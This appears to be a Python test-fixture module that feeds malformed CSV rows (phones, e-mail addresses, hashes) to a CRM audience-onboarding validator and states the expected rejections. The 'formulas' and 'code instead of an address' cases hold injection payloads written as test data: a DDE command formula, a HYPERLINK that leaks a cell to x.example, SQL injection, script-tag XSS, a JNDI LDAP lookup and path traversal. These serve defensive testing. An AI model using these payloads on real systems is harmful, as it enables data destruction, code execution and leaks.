"""Rows in order, with fields that people, spreadsheets and attackers have written."""

from __future__ import annotations

import hashlib
from typing import Any

from audience_onboarding.crm.output.profiles import Identifier, SourceColumn
from tests.unit.crm.malformed.case import GOOD, Case, Gives, csv_bytes, mail, nothing, phone, table, words

A, B = mail(1), mail(2)
PHONE = phone(1)


def sha256(text: str) -> str:
    """In lower case."""
    return hashlib.sha256(text.encode()).hexdigest()


NOTHING = sha256("")
HASHED = {Identifier.EMAIL: SourceColumn("email", hashed=True), Identifier.PHONE: SourceColumn("phone")}


def bad_phones(name: str, *phones: str, **more: Any) -> Case:
    """A person for each phone, with a good address: all are sent, without their phones."""
    rows = (f"{mail(number)},{text}" for number, text in enumerate(phones, 1))
    count = len(phones)
    return Case(name, table(*rows), Gives(count, count, invalid={"phone": {"invalid_phone": count}}), **more)


def bad_emails(name: str, *emails: str) -> Case:
    """A person for each address, with a good phone: all are sent, without their addresses."""
    rows = (f"{text},{phone(number)}" for number, text in enumerate(emails, 1))
    count = len(emails)
    return Case(name, table(*rows), Gives(count, count, invalid={"email": {"invalid_email": count}}))


def same(name: str, *rows: str, first: str = f"{A},{PHONE}", **more: Any) -> Case:
    """A row, then the same person in other spellings: one row is sent."""
    count = 1 + len(rows)
    return Case(name, table(first, *rows), Gives(count, 1, duplicates=count - 1), **more)


def bad_hashes(name: str, reason: str, count: int, *rows: str) -> Case:
    """A column of hashes with some bad values, which are left empty."""
    mismatches = count if reason == "not_hashed" else 0
    outcome = Gives(len(rows), len(rows), invalid={"email": {reason: count}}, mismatches=mismatches)
    return Case(name, table(*rows), outcome, columns=HASHED)


SPREADSHEETS = [
    bad_phones("phones in scientific notation", "6.12346E+09", "3.16877E+10", '"6,12346E+09"', "6E9"),
    bad_phones("phones as floats", "687654301.0", '"687654302,0"', "31687654303.00", "nan"),
    bad_phones(
        "phones as floats, in a country of numbers of any length",
        *("1711234567.0", "491711234568.0", "3012345678.0"),
        settings={"country": "DE"},
    ),
    same("phones without the zero that a spreadsheet ate", f"{A},{PHONE[1:]}"),
    bad_phones("phones with thousands separators", '"687,654,301"', "'687654302"),
    bad_phones("phones as dates", "6-Dec", "1987-06-05", "05/06/1987 00:00"),
    bad_phones("errors of a spreadsheet", "#N/A", "#REF!", "#NAME?", "########", "#VALUE!"),
    bad_emails(
        "formulas", f'"=HYPERLINK(""http://x.example?""&A1,""{A}"")"', "=cmd|'/C calc'!A0", "@SUM(1+1)"
    ),
    bad_phones("formulas as phones", f"={PHONE}", "+31+687654302", "-1+1", "=1+1"),
    same("tabs around fields", f"\t{A}\t,\t{PHONE}\t"),
]

PHONES = [
    bad_phones("no phone", *words("N/A null - 0 + 000000000 onbekend 0600000000 1 () +31 112 00 0031")),
    bad_phones("phones of one digit too few and too many", "068765430", "06876543012", "+3168765430"),
    bad_phones("phones with an extension", "0687654301 ext 5", "0201234567x12", "0687654301;ext=5", "tel. 3"),
    bad_phones(
        "two phones in a field",
        *("0687654301/0687654302", "0687654301 / 0687654302"),
        *("0687654301 of 0687654302", '"0687654301, 0687654302"'),
    ),
    same("a phone with (0)", f"{A},+31 (0)6 {PHONE[2:]}", f"{A},0031(0){PHONE[1:]}"),
    same(
        "a phone in brackets, dots and dashes",
        *(
            f"{A},(06) {PHONE[2:]}",
            f"{A},06.{PHONE[2:]}",
            f"{A},06\u2013{PHONE[2:]}",
            f"{A},31-6/{PHONE[2:]}",
        ),
    ),
    same("digits of full width", f"{A}," + "".join(chr(ord(digit) + 0xFEE0) for digit in PHONE)),
    same("Arabic digits", f"{A}," + "".join(chr(ord(digit) - 48 + 0x0660) for digit in PHONE)),
    same("phones with direction marks", f"{A},\u202a{PHONE}\u202c", f"{A},\u200e+31{PHONE[1:]}\u200f"),
    bad_phones(
        "superscripts, fractions and digits in circles",
        *("06876543\u00b9\u00b2", "06876543\u2460\u2461", "0687654\u00bd1"),
    ),
    bad_phones("a letter O for a zero", "O687654301", "06876543O1", "06876543l1"),
    bad_phones("a phone of 10,000 digits", "06" + "8" * 10_000, "0" * 10_000),
    Case(
        "another country's phones, with and without plus",
        table(f"{A},+4915112345678", f"{B},015112345678"),
        Gives(2, 2, invalid={"phone": {"invalid_phone": 1}}),
    ),
    Case(
        "addresses and phones swapped", table(f"{PHONE},{A}", f"{phone(2)},{B}"), nothing("invalid_email 2")
    ),
    bad_phones("tel: links", "tel:+31687654301", "callto:0687654302", "wa.me/31687654303"),
    bad_phones("nuls within phones", "0687\x00654301", f"{PHONE}\0"),
]

EMAILS = [
    bad_emails(
        "no address", *words("N/A null None - @ NaN n.v.t. geen 0 TRUE undefined (empty) xxx ? #canary@x")
    ),
    bad_emails("two addresses in a field", f"{A};{B}", f"{A} {B}", f'"{A},{B}"', f"{A}/{B}", f"{A}|{B}"),
    bad_emails("mailto: and names", f"mailto:{A}", f"Jan <{A}>", f'"""Jan"" <{A}>"', f"<{A}>", f"Email: {A}"),
    bad_emails(
        "dots where none may be",
        *words(
            f".{A} canary.@leak.example canary..1@leak.example {A}. canary@.leak.example canary@leak..example"
        ),
    ),
    bad_emails(
        "domains that cannot be",
        *words(
            "canary@leak canary@-leak.example canary@leak_.example canary@127.0.0.1 canary@[127.0.0.1]"
            " canary@leak.example:25 canary@leak.e"
        ),
    ),
    bad_emails(
        "no @, or two",
        *words(
            "canary.leak.example canary@@leak.example canary@x@leak.example @leak.example canary@"
            " canary(at)leak.example"
        ),
    ),
    bad_emails("other characters similar to @", "canary\uff20leak.example", "canary\ufe6bleak.example"),
    bad_emails(
        "letters of full width",
        *("\uff43anary@leak.example", "canary@leak\uff0eexample", "\ufb01.canary@leak.example"),
    ),
    bad_emails("emoji", "canary\U0001f600@leak.example", "canary@\u2764.example"),
    Case(
        "addresses of other scripts",
        table(
            f"\u043f\u043e\u0447\u0442\u0430.canary@leak.example,{PHONE}",
            f"canary@m\u00fcnchen.example,{phone(2)}",
            f"canary@xn--mnchen-3ya.example,{phone(3)}",
        ),
        Gives(3, 3),
    ),
    same("composed and decomposed", f"zoe\u0308.{A},", f"ZO\u00cb.{A},", first=f"zo\u00eb.{A},"),
    Case(
        "dotted capital I, sharp s, final sigma",
        table(
            *(f"\u0130.{A},", f"\u00df.{A},"),
            *("canary.\u03a3\u03a3@leak.example,", "canary.\u03c3\u03c2@leak.example,"),
        ),
        Gives(4, 3, duplicates=1),
    ),
    same(
        "invisible characters",
        *(f"\u200b{A},{PHONE}", f"cana\u00adry.1@leak.example,{PHONE}"),
        *(f"{A}\ufeff,{PHONE}", f"\u200f{A},{PHONE}\u2060"),
    ),
    same(
        "no-break and other spaces",
        *(f"\u00a0{A}\u00a0,{PHONE}", f"\u3000{A},{PHONE}\u2009", f"canary .1@leak.example,{PHONE}"),
    ),
    same(
        "Unicode's line separators",
        *(
            f"{A}\u2028,{PHONE}",
            f"{A}\u0085,{PHONE}\u2029",
            f"\x0b{A}\x0c,{PHONE}\x1f",
            f"{A}\x1c,{PHONE}\x1e",
        ),
    ),
    same("a line end within a quoted address", f'"{A}\n",{PHONE}', f'"{A}\r\n","{PHONE}\r\n"'),
    bad_emails("control characters", f"\x01{A}", f"{A}\x7f", f"\x1b[31m{A}", "canary\x08.1@leak.example"),
    bad_emails("nuls within addresses", "canary\0.1@leak.example", f"\0{A}"),
    bad_emails(
        "entities and percent signs",
        *words(
            "canary&#64;leak.example canary%40leak.example canary&amp;1&lt;@leak.example; canary=40leak.example"
        ),
    ),
    bad_emails(
        "an address of 255 characters, and a local part of 65",
        *("canary@" + "x" * 60 + (".y" * 94) + "." + "z" * 20, "c" * 65 + "@leak.example"),
    ),
    bad_emails(
        "code instead of an address",
        *("'; DROP TABLE people; --@x.example", "<script>alert(1)</script>@x.example"),
        *("${jndi:ldap://x.example/a}", "../../etc/passwd"),
    ),
]

HASHES = [
    Case(
        "hashes in columns that should be raw",
        table(
            f"{sha256(A)},{PHONE}", f"{sha256(B).upper()},{phone(2)}", f"{mail(3)},{sha256('31687654303')}"
        ),
        Gives(3, 3, invalid={"email": {"already_hashed": 2}, "phone": {"already_hashed": 1}}, mismatches=3),
    ),
    Case(
        "hashes only, in columns that should be raw",
        table(f"{sha256(A)},{sha256(PHONE)}", f"{sha256(B)},"),
        nothing("already_hashed 2"),
    ),
    Case(
        "the hash of nothing in a raw column",
        table(f"{NOTHING},{PHONE}"),
        Gives(1, 1, invalid={"email": {"already_hashed": 1}}, mismatches=1),
    ),
    same(
        "hashes of both cases",
        *(f"{sha256(A).upper()},{PHONE}", f" {sha256(A)} ,{PHONE}"),
        first=f"{sha256(A)},{PHONE}",
        columns=HASHED,
    ),
    bad_hashes(
        "unhashed values in a column that should be hashed",
        "not_hashed",
        2,
        *(f"{sha256(A)},{PHONE}", f"{B},{phone(2)}", f"N/A,{phone(3)}"),
    ),
    bad_hashes(
        "the hash of nothing",
        "hash_of_nothing",
        2,
        *(f"{NOTHING},{PHONE}", f"{NOTHING.upper()},{phone(2)}", f"{sha256(A)},"),
    ),
    bad_hashes(
        "hashes of other kinds",
        "not_hashed",
        3,
        *(
            f"{hashlib.new(name, A.encode(), usedforsecurity=False).hexdigest()},{phone(number)}"
            for number, name in enumerate(("md5", "sha1", "sha512"))
        ),
    ),
    bad_hashes(
        "hashes with 0x, cut, or in base64",
        "not_hashed",
        4,
        *(f"0x{sha256(A)},{PHONE}", f"{sha256(A)[:-1]},{phone(2)}"),
        *(f"{'x' * 43}=,{phone(3)}", f"{sha256(A)[:-1]}g,{phone(4)}"),
    ),
    bad_hashes(
        "a hash of digits of full width",
        "not_hashed",
        1,
        "\uff10" * 64 + f",{PHONE}",
    ),
]

WHOLE = [
    Case("one row", table(GOOD[0]), Gives(1, 1)),
    Case("all duplicates", table(*[GOOD[0]] * 60), Gives(60, 1, duplicates=59)),
    Case("all invalid", table(*["x,y"] * 60), nothing("invalid_email 60")),
    Case("all empty", table(*[","] * 60), nothing("no_identifier 60")),
    same("rows that differ in case and space only", f"{A.upper()},{PHONE}", f" {A.title()} ,06 {PHONE[2:]}"),
    Case(
        "rows that differ in columns that are not mapped",
        csv_bytes("id,email,phone", *(f"{number},{GOOD[0]}" for number in range(5))),
        Gives(5, 1, duplicates=4),
    ),
    Case(
        "the same address with and without phone",
        table(f"{A},{PHONE}", f"{A},", f",{PHONE}", f"{A},0"),
        Gives(4, 3, duplicates=1, invalid={"phone": {"invalid_phone": 1}}),
    ),
    Case(
        "everything at once",
        table(GOOD[0], GOOD[0], "x,", ",", f"{B},x", "short", f'"{B}"x,1', "", GOOD[1]),
        Gives(
            8,
            3,
            duplicates=1,
            rejected={"invalid_email": 1, "malformed_row": 2, "no_identifier": 1},
            invalid={"phone": {"invalid_phone": 1}},
            malformed=(6, 7),
        ),
    ),
]
